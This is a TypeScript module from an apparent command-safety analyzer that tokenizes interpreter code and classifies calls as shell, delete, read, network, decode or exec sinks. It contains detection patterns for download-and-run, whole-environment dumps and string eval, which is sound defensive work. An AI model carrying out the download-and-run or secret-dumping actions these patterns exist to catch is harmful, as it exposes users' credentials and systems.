// The interpreters family: code given to Python, Node/Bun/Deno, Perl, Ruby,
// PHP, Lua (and osascript, Rscript) is read by language, not by substring.
// The code is tokenized (strings, names, punctuation; comments dropped), the
// names are resolved through the imports (`import shutil as s`,
// `from shutil import rmtree as r`, `const {rmSync: r} = require('fs')`),
// and each call to a known sink is judged by its arguments:
//   - a shell string (os.system, execSync, system, backticks) is analysed as
//     shell; a list (subprocess.run(["rm", "-rf", p]), execFileSync) as argv;
//   - a delete (shutil.rmtree, fs.rmSync, FileUtils.rm_rf, unlink) goes to
//     the delete rules, a read to the secret rules, a write to loom's rules;
//   - code run from a string (exec, eval) is analysed in the same language
//     when it is a literal, is download-and-run when it comes from the
//     network, and is `dynamic-command` (ask) otherwise.
// A string that is only printed is data: nothing is done with it.
import { tclCommandsOf } from '../tcl';
import { posix } from 'node:path';
import type { Analyzer } from '../analyze';
import type { SimpleCommand } from '../lexer';
import { LOOM_PROCESS } from '../tables/devices';
import { deletesPath, destroysFile, movesPath, readsPath, writesPath, carriesFolder } from '../path-rules';
import type { Rule, RuleContext } from '../rules';
import { CLUSTER_TAIL, interpreterOf, isDownloader, type InterpreterSpec, type Language } from '../tables/programs';
import { own } from './args';
import { sqlOnlyReads } from './tamper';
import { CODE_SHELL_ON_SOCKET, CODE_SOCKET } from '../tables/remote-shell';
import { ENDLESS_ITERABLES, ENDLESS_UNTIL, ENDLESS_WHILE, FORK_CALLS, REPEATERS } from '../tables/fork';
import { HOME_SPELLINGS } from '../tables/home-spellings';
import { IPYTHON_PROGRAMS } from '../tables/ipython';
import { ipythonParts } from './ipython';


export interface CodeContext {
  analyzer: Analyzer;
  cwd: string;
  depth: number;
  via: string;
  segment: string;
}

const MAX_CODE = 64 * 1024;
/** Languages whose code options add up (`perl -e A -e B`, `osascript -e A -e B`: one line each). */
const MANY_CODE_OPTIONS: readonly Language[] = ['perl', 'ruby', 'lua', 'applescript'];
const MAX_TOKENS = 20000;
const MAX_DEPTH = 8;

// ---------------------------------------------------------------- sinks (data)

type Sink = 'shell' | 'argv' | 'exec' | 'chdir' | 'delete' | 'delete-r' | 'move' | 'read' | 'write' | 'open' | 'copy' | 'archive' | 'net' | 'decode' | 'home' | 'join' | 'path' | 'db' | 'walk';

/** Per language: canonical call name -> what it does with its arguments. */
export const SINKS: Record<string, Record<string, Sink>> = {
  python: {
    'os.system': 'shell', 'os.popen': 'shell', 'os.popen2': 'shell', 'os.popen3': 'shell', 'commands.getoutput': 'shell', 'commands.getstatusoutput': 'shell', 'subprocess.getoutput': 'shell', 'subprocess.getstatusoutput': 'shell', 'asyncio.create_subprocess_shell': 'shell', 'pty.spawn': 'argv',
    'subprocess.run': 'argv', 'subprocess.call': 'argv', 'subprocess.check_call': 'argv', 'subprocess.check_output': 'argv', 'subprocess.Popen': 'argv', 'asyncio.create_subprocess_exec': 'argv',
    'os.execv': 'argv', 'os.execve': 'argv', 'os.execvp': 'argv', 'os.execvpe': 'argv', 'os.execl': 'argv', 'os.execle': 'argv', 'os.execlp': 'argv', 'os.execlpe': 'argv', 'os.spawnv': 'argv', 'os.spawnvp': 'argv', 'os.spawnl': 'argv', 'os.spawnlp': 'argv', 'os.posix_spawn': 'argv', 'os.posix_spawnp': 'argv',
    exec: 'exec', eval: 'exec', compile: 'exec', execfile: 'exec', 'builtins.exec': 'exec', 'builtins.eval': 'exec',
    'shutil.rmtree': 'delete-r', 'os.remove': 'delete', 'os.unlink': 'delete', 'os.rmdir': 'delete', 'os.removedirs': 'delete', 'send2trash.send2trash': 'delete-r', '.unlink': 'delete', '.rmdir': 'delete', '.rmtree': 'delete-r',
    'shutil.move': 'move', 'os.rename': 'move', 'os.replace': 'move', 'os.renames': 'move', '.rename': 'move', '.replace': 'move',
    open: 'open', 'io.open': 'open', 'codecs.open': 'open', '.read_text': 'read', '.read_bytes': 'read', '.open': 'open', '.write_text': 'write', '.write_bytes': 'write', '.touch': 'write', 'os.chmod': 'write', 'os.truncate': 'write', '.chmod': 'write', 'os.symlink': 'copy',
    'shutil.copy': 'copy', 'shutil.copy2': 'copy', 'shutil.copyfile': 'copy', 'shutil.copytree': 'copy', 'shutil.make_archive': 'archive', '.add': 'archive', '.write': 'archive',
    'urllib.request.urlopen': 'net', 'urllib2.urlopen': 'net', 'urllib.urlopen': 'net', urlopen: 'net', 'requests.get': 'net', 'requests.post': 'net', 'requests.request': 'net', 'httpx.get': 'net', 'httpx.post': 'net', 'http.client.HTTPSConnection': 'net', 'http.client.HTTPConnection': 'net', 'urllib.request.Request': 'net', 'urllib.request.urlretrieve': 'net', 'aiohttp.ClientSession': 'net', 'socket.create_connection': 'net', 'socket.socket': 'net',
    'base64.b64decode': 'decode', 'base64.b32decode': 'decode', 'base64.b16decode': 'decode', 'base64.a85decode': 'decode', 'base64.decodebytes': 'decode', 'base64.urlsafe_b64decode': 'decode', 'bytes.fromhex': 'decode', 'codecs.decode': 'decode', 'zlib.decompress': 'decode', 'gzip.decompress': 'decode', 'bz2.decompress': 'decode', 'lzma.decompress': 'decode', 'marshal.loads': 'decode', 'pickle.loads': 'decode', 'binascii.unhexlify': 'decode', 'binascii.a2b_base64': 'decode', chr: 'decode', '.decode': 'decode', 'bytearray.fromhex': 'decode', '.join': 'decode', 'input': 'decode', 'sys.stdin.read': 'decode', '.read': 'decode',
    'os.path.expanduser': 'path', 'os.path.expandvars': 'path', 'os.path.abspath': 'path', 'os.path.realpath': 'path', 'os.path.normpath': 'path', 'pathlib.Path': 'path', Path: 'path', 'pathlib.PosixPath': 'path', PosixPath: 'path', str: 'path', 'os.fspath': 'path', 'os.path.join': 'join', '.joinpath': 'join',
    'os.path.expanduser~': 'home', 'pathlib.Path.home': 'home', 'Path.home': 'home', 'os.getenv': 'home', 'os.environ.get': 'home', 'os.getcwd': 'path',
    'sqlite3.connect': 'db', 'os.chdir': 'chdir',
    'os.walk': 'walk', 'os.fwalk': 'walk', 'os.scandir': 'walk', 'os.listdir': 'walk', 'glob.glob': 'walk', 'glob.iglob': 'walk', '.rglob': 'walk', '.glob': 'walk', '.iterdir': 'walk', '.walk': 'walk',
  },
  node: {
    'child_process.exec': 'shell', 'child_process.execSync': 'shell', exec: 'shell', execSync: 'shell', 'child_process.execFile': 'argv', 'child_process.execFileSync': 'argv', 'child_process.spawn': 'argv', 'child_process.spawnSync': 'argv', 'child_process.fork': 'argv', execFile: 'argv', execFileSync: 'argv', spawn: 'argv', spawnSync: 'argv', execa: 'argv', execaSync: 'argv', 'execa.command': 'shell', execaCommand: 'shell', execaCommandSync: 'shell',
    'Bun.spawn': 'argv', 'Bun.spawnSync': 'argv', 'bun.spawn': 'argv', 'bun.spawnSync': 'argv', 'Deno.Command': 'argv', 'Deno.run': 'argv', $: 'shell', 'Bun.$': 'shell', 'bun.$': 'shell', 'zx.$': 'shell', 'execa.$': 'shell',
    eval: 'exec', Function: 'exec', 'vm.runInThisContext': 'exec', 'vm.runInNewContext': 'exec', 'vm.runInContext': 'exec', 'vm.Script': 'exec', 'vm.compileFunction': 'exec', 'globalThis.eval': 'exec', 'window.eval': 'exec', 'global.eval': 'exec', 'import': 'exec',
    'fs.rmSync': 'delete', 'fs.rm': 'delete', 'fs.promises.rm': 'delete', 'fs.rmdirSync': 'delete', 'fs.rmdir': 'delete', 'fs.promises.rmdir': 'delete', 'fs.unlinkSync': 'delete', 'fs.unlink': 'delete', 'fs.promises.unlink': 'delete', 'fs-extra.removeSync': 'delete-r', 'fs-extra.remove': 'delete-r', 'fs-extra.emptyDirSync': 'delete-r', 'fs-extra.emptyDir': 'delete-r', 'rimraf': 'delete-r', 'rimraf.sync': 'delete-r', rimrafSync: 'delete-r', 'rimraf.rimraf': 'delete-r', 'rimraf.rimrafSync': 'delete-r', 'del.deleteSync': 'delete-r', deleteSync: 'delete-r', 'del.deleteAsync': 'delete-r', 'Deno.remove': 'delete', 'Deno.removeSync': 'delete', rmSync: 'delete', rmdirSync: 'delete', unlinkSync: 'delete', 'fs.renameSync': 'move', 'fs.rename': 'move', 'fs.promises.rename': 'move', renameSync: 'move', 'fs-extra.moveSync': 'move',
    'fs.readFileSync': 'read', 'fs.readFile': 'read', 'fs.promises.readFile': 'read', 'fs.createReadStream': 'read', readFileSync: 'read', 'Bun.file': 'read', 'Deno.readTextFile': 'read', 'Deno.readTextFileSync': 'read', 'Deno.readFile': 'read', 'Deno.readFileSync': 'read', 'fs.openSync': 'open', 'fs.open': 'open',
    'fs.writeFileSync': 'write', 'fs.writeFile': 'write', 'fs.appendFileSync': 'write', 'fs.appendFile': 'write', 'fs.promises.writeFile': 'write', 'fs.promises.appendFile': 'write', 'fs.createWriteStream': 'write', 'fs.truncateSync': 'write', 'fs.truncate': 'write', 'fs.chmodSync': 'write', 'fs.chmod': 'write', writeFileSync: 'write', appendFileSync: 'write', 'Bun.write': 'write', 'Deno.writeTextFile': 'write', 'Deno.writeTextFileSync': 'write', 'Deno.writeFile': 'write', 'fs.copyFileSync': 'copy', 'fs.copyFile': 'copy', 'fs.cpSync': 'copy', 'fs.cp': 'copy', 'fs.promises.cp': 'copy', 'fs.promises.copyFile': 'copy', 'fs.symlinkSync': 'copy',
    fetch: 'net', 'https.get': 'net', 'http.get': 'net', 'https.request': 'net', 'http.request': 'net', 'axios.get': 'net', axios: 'net', 'got': 'net', 'node-fetch': 'net', 'undici.request': 'net', 'undici.fetch': 'net', '.text': 'net', '.json': 'net',
    'Buffer.from': 'decode', atob: 'decode', 'String.fromCharCode': 'decode', 'zlib.inflateSync': 'decode', 'zlib.gunzipSync': 'decode', '.reverse': 'decode', '.toString': 'decode', decodeURIComponent: 'decode', unescape: 'decode', 'process.argv': 'decode', '.join': 'decode', 'fs.readFileSync0': 'decode',
    'path.join': 'join', 'path.resolve': 'join', 'path.posix.join': 'join', 'os.homedir': 'home', 'require.resolve': 'path', 'Deno.env.get': 'home', 'Bun.env.HOME': 'home',
    'process.chdir': 'chdir', 'Deno.chdir': 'chdir',
    'better-sqlite3': 'db', 'sqlite.DatabaseSync': 'db', 'sqlite3.Database': 'db', Database: 'db', DatabaseSync: 'db',
    'fs.readdirSync': 'walk', 'fs.readdir': 'walk', 'fs.promises.readdir': 'walk', 'fs.opendirSync': 'walk', 'glob.sync': 'walk', globSync: 'walk', 'fg.sync': 'walk', 'Deno.readDir': 'walk', 'Deno.readDirSync': 'walk',
  },
  perl: {
    system: 'argv', exec: 'argv', qx: 'shell', readpipe: 'shell', '`': 'shell', 'IPC::Open3::open3': 'argv', 'IPC::Open2::open2': 'argv', 'IPC::Run::run': 'argv',
    eval: 'exec', evalbytes: 'exec', do: 'exec', require: 'exec',
    unlink: 'delete', rmdir: 'delete', rmtree: 'delete-r', remove_tree: 'delete-r', 'File::Path::rmtree': 'delete-r', 'File::Path::remove_tree': 'delete-r', rename: 'move', move: 'move', 'File::Copy::move': 'move',
    open: 'open', sysopen: 'open', copy: 'copy', 'File::Copy::copy': 'copy', 'File::Slurp::read_file': 'read', read_file: 'read', slurp: 'read', 'Path::Tiny::path': 'path', chmod: 'write', truncate: 'write', write_file: 'write',
    get: 'net', getstore: 'net', 'LWP::Simple::get': 'net', 'HTTP::Tiny': 'net', 'LWP::UserAgent': 'net', '->get': 'net', '->content': 'net', '->decoded_content': 'net', 'IO::Socket::INET': 'net',
    decode_base64: 'decode', 'MIME::Base64::decode_base64': 'decode', pack: 'decode', unpack: 'decode', reverse: 'decode', chr: 'decode', join: 'decode', 'Compress::Zlib::uncompress': 'decode',
    'DBI->connect': 'db', 'DBI::connect': 'db', chdir: 'chdir',
    glob: 'walk', 'File::Find::find': 'walk', find: 'walk', finddepth: 'walk', 'File::Find::finddepth': 'walk', opendir: 'walk', readdir: 'walk',
  },
  ruby: {
    system: 'argv', exec: 'argv', spawn: 'argv', 'Kernel.system': 'argv', 'Kernel.exec': 'argv', 'Kernel.spawn': 'argv', 'Process.spawn': 'argv', 'Process.exec': 'argv', 'IO.popen': 'argv', 'Open3.capture2': 'argv', 'Open3.capture2e': 'argv', 'Open3.capture3': 'argv', 'Open3.popen3': 'argv', 'Open3.popen2': 'argv', 'Open3.popen2e': 'argv', 'Open3.pipeline': 'argv', 'PTY.spawn': 'argv', // rake (and FileUtils in a Rakefile) runs `sh "cmd"` / `sh "rm", "-rf", dir` as system does.
    sh: 'argv', ruby: 'argv', 'FileUtils.sh': 'argv', '`': 'shell', '%x': 'shell', 'Kernel.`': 'shell',
    eval: 'exec', instance_eval: 'exec', class_eval: 'exec', module_eval: 'exec', 'Kernel.eval': 'exec', '.eval': 'exec', 'binding.eval': 'exec', instance_exec: 'exec', load: 'exec', require: 'exec',
    'FileUtils.rm_rf': 'delete-r', 'FileUtils.rm_r': 'delete-r', 'FileUtils.rmtree': 'delete-r', 'FileUtils.remove_dir': 'delete-r', 'FileUtils.remove_entry': 'delete-r', 'FileUtils.remove_entry_secure': 'delete-r', 'FileUtils.rm': 'delete', 'FileUtils.rm_f': 'delete', 'FileUtils.remove': 'delete', 'FileUtils.remove_file': 'delete', 'FileUtils.rmdir': 'delete', rm_rf: 'delete-r', rm_r: 'delete-r', rmtree: 'delete-r', remove_dir: 'delete-r', 'File.delete': 'delete', 'File.unlink': 'delete', 'Dir.delete': 'delete', 'Dir.rmdir': 'delete', 'Dir.unlink': 'delete', 'FileUtils.mv': 'move', 'FileUtils.move': 'move', 'File.rename': 'move', '.rmtree': 'delete-r', '.delete': 'delete',
    'File.read': 'read', 'File.readlines': 'read', 'File.binread': 'read', 'File.foreach': 'read', 'IO.read': 'read', 'IO.readlines': 'read', 'File.open': 'open', 'File.new': 'open', 'IO.binread': 'read', 'File.write': 'write', 'IO.write': 'write', 'File.binwrite': 'write', 'File.chmod': 'write', 'File.truncate': 'write', 'FileUtils.touch': 'write', 'FileUtils.chmod': 'write', 'FileUtils.chmod_R': 'write', 'FileUtils.cp': 'copy', 'FileUtils.cp_r': 'copy', 'FileUtils.copy': 'copy', 'FileUtils.copy_entry': 'copy', 'FileUtils.ln_s': 'copy',
    'Net::HTTP.get': 'net', 'Net::HTTP.get_response': 'net', 'URI.open': 'net', 'URI.parse': 'net', 'HTTParty.get': 'net', 'Faraday.get': 'net', 'RestClient.get': 'net', '.read': 'decode', 'open-uri': 'net',
    'Base64.decode64': 'decode', 'Base64.strict_decode64': 'decode', 'Base64.urlsafe_decode64': 'decode', '.unpack': 'decode', '.unpack1': 'decode', '.pack': 'decode', '.reverse': 'decode', '.chr': 'decode', 'Zlib::Inflate.inflate': 'decode', 'Zlib.inflate': 'decode', '.join': 'decode', 'ARGV': 'decode', 'gets': 'decode',
    'File.join': 'join', 'File.expand_path': 'path', 'Dir.home': 'home', 'Pathname.new': 'path', Pathname: 'path',
    'Dir.chdir': 'chdir', 'FileUtils.cd': 'chdir', 'FileUtils.chdir': 'chdir',
    'SQLite3::Database.new': 'db', 'SQLite3::Database.open': 'db', 'Sequel.sqlite': 'db',
    'Dir.glob': 'walk', 'Dir.children': 'walk', 'ENV.fetch': 'home', 'Dir.entries': 'walk', 'Dir.each_child': 'walk', 'Find.find': 'walk',
  },
  php: {
    system: 'shell', exec: 'shell', shell_exec: 'shell', passthru: 'shell', popen: 'shell', proc_open: 'argv', pcntl_exec: 'argv', '`': 'shell', expect_popen: 'shell',
    eval: 'exec', assert: 'exec', create_function: 'exec', include: 'exec', require: 'exec', include_once: 'exec', require_once: 'exec',
    unlink: 'delete', rmdir: 'delete', rename: 'move', file_get_contents: 'read', readfile: 'read', file: 'read', fopen: 'open', highlight_file: 'read', show_source: 'read', parse_ini_file: 'read', file_put_contents: 'write', chmod: 'write', touch: 'write', copy: 'copy', symlink: 'copy',
    curl_exec: 'net', fsockopen: 'net', stream_socket_client: 'net',
    base64_decode: 'decode', str_rot13: 'decode', gzinflate: 'decode', gzuncompress: 'decode', gzdecode: 'decode', hex2bin: 'decode', strrev: 'decode', chr: 'decode', convert_uudecode: 'decode', pack: 'decode', urldecode: 'decode', rawurldecode: 'decode', implode: 'decode',
    getenv: 'home', chdir: 'chdir', 'PDO': 'db', 'SQLite3': 'db', glob: 'walk', scandir: 'walk', opendir: 'walk', 'RecursiveDirectoryIterator': 'walk',
  },
  lua: {
    'os.execute': 'shell', 'io.popen': 'shell', load: 'exec', loadstring: 'exec', dofile: 'exec', loadfile: 'exec', 'os.remove': 'delete', 'os.rename': 'move', 'io.open': 'open', 'io.lines': 'read',
    'socket.http.request': 'net', 'http.request': 'net', 'string.char': 'decode', 'string.reverse': 'decode', '.reverse': 'decode', 'os.getenv': 'home', 'lsqlite3.open': 'db', 'sqlite3.open': 'db',
  },
  r: { setwd: 'chdir', system: 'shell', system2: 'argv', shell: 'shell', 'Sys.getenv': 'home', 'processx::run': 'argv', 'sys::exec_wait': 'argv', unlink: 'delete', 'file.remove': 'delete', eval: 'exec', 'parse': 'exec', source: 'exec', readLines: 'read', 'read.csv': 'read', readRDS: 'read', 'file.path': 'join', 'path.expand': 'path', 'url': 'net', 'download.file': 'net' },
  tcl: { exec: 'argv', spawn: 'argv', eval: 'exec', 'file delete': 'delete' },
  applescript: {},
  powershell: {},
  julia: { cd: 'chdir', rm: 'delete', 'Base.rm': 'delete', 'Filesystem.rm': 'delete', run: 'argv', 'Base.run': 'argv', read: 'read', readlines: 'read', write: 'write', mv: 'move', cp: 'copy', homedir: 'home', joinpath: 'join', download: 'net', 'Downloads.download': 'net', eval: 'exec', 'Meta.parse': 'exec', include: 'exec', walkdir: 'walk', readdir: 'walk' },
};

/** Calls whose string arguments are only printed or logged: data, never commands. */
export const PRINT_CALLS = ['print', 'console.log', 'console.error', 'console.info', 'console.warn', 'console.debug', 'process.stdout.write', 'process.stderr.write', 'sys.stdout.write', 'sys.stderr.write', 'puts', 'p', 'pp', 'say', 'printf', 'echo', 'print_r', 'var_dump', 'io.write', 'logging.info', 'logging.warning', 'logging.error', 'logging.debug', 'log', 'warn', 'die', 'cat', 'message'];

const NET_TEXT = /\b(?:urlopen|urlretrieve|requests\.(?:get|post|request)|httpx|http\.client|aiohttp|fetch\s*\(|https?\.get|https?\.request|axios|undici|Net::HTTP|URI\.open|open-uri|HTTParty|Faraday|RestClient|LWP|HTTP::Tiny|getstore|file_get_contents\s*\(\s*['"]https?:|curl_exec|socket\.http|download\.file|Invoke-WebRequest|Invoke-RestMethod|DownloadString)/;
/** Modules whose use means the code talks to the network (with code run from a string: download-and-run). */
const NET_MODULES = new Set(['http', 'https', 'http2', 'net', 'tls', 'undici', 'axios', 'node-fetch', 'got', 'urllib.request', 'urllib', 'urllib2', 'requests', 'httpx', 'http.client', 'socket', 'aiohttp', 'Net::HTTP', 'open-uri', 'LWP::Simple', 'LWP::UserAgent', 'HTTP::Tiny', 'IO::Socket::INET']);
const NODE_NET_REQUIRE = /\b(?:require|import)\s*\(\s*['"`](?:node:)?(?:https?|http2|net|tls|undici|axios|node-fetch|got)['"`]\s*\)/;
/** A print of the whole environment object (not one variable of it). */
const ENV_PRINT = /\b(?:print|pprint|console\.(?:log|dir|error|info|table|warn)|puts|pp?|say|print_r|var_dump|var_export|printf|(?:process|sys)\.std(?:out|err)\.write|echo)\s*\(?\s*(?:(?:dict|str|repr|list|sorted|json\.dumps|JSON\.stringify|Object\.entries|Data::Dumper->Dump|Dumper|yaml\.dump|json_encode)\s*\(\s*\[?\s*)*\\?(?:os\.environ|process\.env|ENV|%ENV|\$_ENV|\$_SERVER|getenv\s*\(\s*\)|Deno\.env\.toObject\(\)|Bun\.env)(?:\.(?:items|values|copy|to_h|to_a|inspect|to_s|toObject)\b(?:\(\))?)?\s*[\]),;]*\s*(?:$|[);,\n}]|\bfor\b)/;
/** The whole environment as a value (not one variable of it): `dict(os.environ)`, `JSON.stringify(process.env)`, `%ENV`, `ENV.to_h`. */
const WHOLE_ENV = /(?:\bos\.environ|\bprocess\.env|\bENV|%ENV|\$_ENV|\$_SERVER|\bgetenv\s*\(\s*\)|\bDeno\.env\.toObject\(\)|\bBun\.env)(?![\w$]|\s*\[|\s*\.\s*(?!items|values|copy|to_h|to_a|inspect|to_s|toObject|keys|entries)[A-Za-z_]|\s*\{|\s*\(\s*['"])/;
const EXEC_TEXT = /\b(?:exec|eval|Function|runInThisContext|runInNewContext|instance_eval|class_eval|module_eval|loadstring|create_function|evalbytes|iex|Invoke-Expression)\b/;

// ---------------------------------------------------------------- tokenizer

interface Tok {
  k: 'id' | 'str' | 'num' | 'op';
  v: string;
  /** A string with interpolation: unknown parts are \u0000. */
  dyn?: boolean;
  /** Backticks / %x / qx: the string is a shell command. */
  shell?: boolean;
  /** qw(...) / %w(...): a list of words. */
  words?: string[];
}

function unescape(body: string, raw: boolean): string {
  if (raw || !body.includes('\\')) return body;
  let out = '';
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (c !== '\\' || i + 1 >= body.length) {
      out += c;
      continue;
    }
    const n = body[++i];
    if (n === 'n') out += '\n';
    else if (n === 't') out += '\t';
    else if (n === 'r') out += '\r';
    else if (n === '0' && !/[0-7]/.test(body[i + 1] ?? '')) out += '\0';
    else if (n === 'x' && /^[0-9a-fA-F]{2}/.test(body.slice(i + 1, i + 3))) {
      out += String.fromCharCode(parseInt(body.slice(i + 1, i + 3), 16));
      i += 2;
    } else if (n === 'u' && /^[0-9a-fA-F]{4}/.test(body.slice(i + 1, i + 5))) {
      out += String.fromCharCode(parseInt(body.slice(i + 1, i + 5), 16));
      i += 4;
    } else if (/[0-7]/.test(n)) {
      const m = /^[0-7]{1,3}/.exec(body.slice(i, i + 3))!;
      out += String.fromCharCode(parseInt(m[0], 8) & 0xff);
      i += m[0].length - 1;
    } else if (n === '\n') continue;
    else out += n;
  }
  return out;
}

const CLOSE: Record<string, string> = { '(': ')', '[': ']', '{': '}', '<': '>' };

/** Reads a delimited body starting after `open` at `i`; nested brackets balance. Returns [body, index after close]. */
function delimited(code: string, i: number, open: string): [string, number] {
  const close = CLOSE[open] ?? open;
  let depth = 1;
  let j = i;
  while (j < code.length) {
    const c = code[j];
    if (c === '\\') {
      j += 2;
      continue;
    }
    if (c === close && --depth === 0) return [code.slice(i, j), j + 1];
    if (c === open && close !== open) depth++;
    j++;
  }
  return [code.slice(i), code.length];
}

/** Interpolation marks: Python f-strings {x}, JS `${x}`, Ruby "#{x}", Perl/PHP "$x" and "@x". */
function interpolated(lang: Language, body: string, kind: 'f' | 'tpl' | 'dq'): { text: string; dyn: boolean; names: string[] } {
  if (lang === 'perl' || lang === 'php') body = body.replace(/\$ENV\{\s*['"]?HOME['"]?\s*\}|\$_SERVER\[\s*['"]HOME['"]\s*\]/g, '~');
  if (lang === 'ruby') body = body.replace(/#\{\s*(?:ENV\[\s*['"]HOME['"]\s*\]|Dir\.home)\s*\}/g, '~');
  if (kind === 'tpl') body = body.replace(/\$\{\s*(?:process\.env\.HOME|os\.homedir\(\)|require\(['"](?:node:)?os['"]\)\.homedir\(\))\s*\}/g, '~');
  let re: RegExp | undefined;
  if (kind === 'f') re = /\{([^{}]{0,200})\}/g;
  else if (kind === 'tpl') re = /\$\{([^{}]{0,200})\}/g;
  else if (lang === 'ruby') re = /#\{([^{}]{0,200})\}/g;
  else if (lang === 'perl' || lang === 'php') re = /[$@]\{?([A-Za-z_][\w]*)\}?/g;
  if (!re) return { text: body, dyn: false, names: [] };
  const names: string[] = [];
  const text = body.replace(re, (_m, n: string) => {
    names.push(n.trim());
    return '\u0000' + n.trim() + '\u0001';
  });
  return { text, dyn: names.length > 0, names };
}

export function tokenize(lang: Language, code: string): Tok[] {
  const toks: Tok[] = [];
  const n = Math.min(code.length, MAX_CODE);
  let i = 0;
  const hashComment = lang === 'python' || lang === 'ruby' || lang === 'perl' || lang === 'php' || lang === 'r' || lang === 'tcl' || lang === 'julia';
  const slashComment = lang === 'node' || lang === 'php';
  while (i < n && toks.length < MAX_TOKENS) {
    const c = code[i];
    if (c === ' ' || c === '\t' || c === '\r') {
      i++;
      continue;
    }
    if (c === '\n') {
      toks.push({ k: 'op', v: ';' });
      i++;
      continue;
    }
    if ((c === '#' && hashComment && !(lang === 'perl' && code[i - 1] === '$')) || (c === '/' && code[i + 1] === '/' && slashComment) || (c === '-' && code[i + 1] === '-' && lang === 'lua')) {
      if (lang === 'lua' && code.startsWith('--[[', i)) {
        const e = code.indexOf(']]', i);
        i = e < 0 ? n : e + 2;
        continue;
      }
      const e = code.indexOf('\n', i);
      i = e < 0 ? n : e;
      continue;
    }
    if (c === '/' && code[i + 1] === '*' && (lang === 'node' || lang === 'php')) {
      const e = code.indexOf('*/', i + 2);
      i = e < 0 ? n : e + 2;
      continue;
    }
    // Python string prefixes: r, b, f, rb, br, fr, rf, u.
    if (lang === 'python' && /[rRbBfFuU]/.test(c)) {
      const m = /^([rRbBfFuU]{1,2})(['"])/.exec(code.slice(i, i + 3));
      if (m && !/[\w]/.test(code[i - 1] ?? '')) {
        const prefix = m[1].toLowerCase();
        i += m[1].length;
        i = readQuoted(lang, code, i, toks, prefix.includes('r'), prefix.includes('f') ? 'f' : undefined);
        continue;
      }
    }
    if (c === '"' || c === "'") {
      i = readQuoted(lang, code, i, toks, lang === 'perl' || lang === 'php' || lang === 'ruby' ? c === "'" : false, undefined);
      continue;
    }
    if (c === '`') {
      if (lang === 'node') {
        const [body, e] = delimited(code, i + 1, '`');
        const it = interpolated(lang, body, 'tpl');
        toks.push({ k: 'str', v: unescape(it.text, false), dyn: it.dyn });
        i = e;
        continue;
      }
      if (lang === 'perl' || lang === 'ruby' || lang === 'php' || lang === 'julia') {
        const [body, e] = delimited(code, i + 1, '`');
        const it = interpolated(lang, body, 'dq');
        toks.push({ k: 'str', v: it.text, dyn: it.dyn, shell: true });
        i = e;
        continue;
      }
    }
    if (lang === 'lua' && c === '[' && /^\[=*\[/.test(code.slice(i, i + 10))) {
      const m = /^\[(=*)\[/.exec(code.slice(i, i + 10))!;
      const closeSeq = ']' + m[1] + ']';
      const e = code.indexOf(closeSeq, i + m[0].length);
      toks.push({ k: 'str', v: code.slice(i + m[0].length, e < 0 ? n : e) });
      i = e < 0 ? n : e + closeSeq.length;
      continue;
    }
    // Perl q() qq() qw() qx() and s/// m// tr/// y///; Ruby %w() %x() %q() %Q() %().
    if (lang === 'perl' && /[qmsty]/.test(c) && !/[\w$@%&]/.test(code[i - 1] ?? '')) {
      const m = /^(qq|qw|qx|qr|q|m|s|tr|y)\s*([^\w\s])/.exec(code.slice(i, i + 6));
      if (m && !(m[2] === '=' && code[i + m[0].length] !== '=') && !(m[1].length === 1 && m[2] === ',' ) && !(m[2] === ';')) {
        const op = m[1];
        let [body, e] = delimited(code, i + m[0].length, m[2]);
        if (op === 's' || op === 'tr' || op === 'y') {
          // second part
          const open2 = CLOSE[m[2]] ? code.slice(e).trimStart()[0] ?? m[2] : m[2];
          const start2 = CLOSE[m[2]] ? code.indexOf(open2, e) + 1 : e;
          let replacement: string;
          [replacement, e] = delimited(code, start2, open2);
          const flagsAt = e;
          while (/[a-z]/.test(code[e] ?? '')) e++;
          // s/RE/CODE/e: the replacement is Perl code, run for every match (ee: its result is run again, as code).
          if (op === 's' && code.slice(flagsAt, e).includes('e') && replacement.length <= MAX_CODE) toks.push({ k: 'op', v: '(' }, ...tokenize(lang, replacement), { k: 'op', v: ')' }, { k: 'op', v: ';' });
          i = e;
          continue;
        }
        if (op === 'm' || op === 'qr') {
          while (/[a-z]/.test(code[e] ?? '')) e++;
          i = e;
          continue;
        }
        if (op === 'qw') toks.push({ k: 'str', v: body, words: body.trim().split(/\s+/).filter(Boolean) });
        else {
          const it = op === 'q' ? { text: body, dyn: false } : interpolated(lang, body, 'dq');
          toks.push({ k: 'str', v: it.text, dyn: it.dyn, shell: op === 'qx' });
        }
        i = e;
        continue;
      }
    }
    if (lang === 'ruby' && c === '%' && /^%[wWiIqQxr]?[({[<|!/]/.test(code.slice(i, i + 3))) {
      const m = /^%([wWiIqQxr]?)([({[<|!/])/.exec(code.slice(i, i + 3))!;
      const [body, e] = delimited(code, i + m[0].length, m[2]);
      if (m[1] === 'w' || m[1] === 'W' || m[1] === 'i' || m[1] === 'I') toks.push({ k: 'str', v: body, words: body.trim().split(/\s+/).filter(Boolean) });
      else if (m[1] !== 'r') {
        const it = m[1] === 'q' ? { text: body, dyn: false } : interpolated(lang, body, 'dq');
        toks.push({ k: 'str', v: it.text, dyn: it.dyn, shell: m[1] === 'x' });
      }
      i = e;
      continue;
    }
    if (/[A-Za-z_$@%]/.test(c) || c.charCodeAt(0) > 127) {
      let j = i + 1;
      // Perl/PHP sigils and package separators are part of the name: $x, @ARGV, File::Path::rmtree.
      while (j < n && (/[\w$]/.test(code[j]) || (code[j] === ':' && code[j + 1] === ':' && /[A-Za-z_]/.test(code[j + 2] ?? '')) || code.charCodeAt(j) > 127)) j += code[j] === ':' ? 2 : 1;
      if (j === i + 1 && (c === '@' || c === '%') && lang !== 'perl') {
        toks.push({ k: 'op', v: c });
        i++;
        continue;
      }
      toks.push({ k: 'id', v: code.slice(i, j) });
      i = j;
      continue;
    }
    if (/[0-9]/.test(c)) {
      let j = i + 1;
      while (j < n && /[\w.]/.test(code[j])) j++;
      toks.push({ k: 'num', v: code.slice(i, j) });
      i = j;
      continue;
    }
    if (c === '-' && code[i + 1] === '>') {
      toks.push({ k: 'op', v: '->' });
      i += 2;
      continue;
    }
    if (c === '=' && code[i + 1] === '>') {
      toks.push({ k: 'op', v: '=>' });
      i += 2;
      continue;
    }
    if (c === ':' && code[i + 1] === ':') {
      toks.push({ k: 'op', v: '::' });
      i += 2;
      continue;
    }
    if (c === '.' && code[i + 1] === '.' && lang === 'lua') {
      toks.push({ k: 'op', v: '..' });
      i += 2;
      continue;
    }
    toks.push({ k: 'op', v: c });
    i++;
  }
  return toks;
}

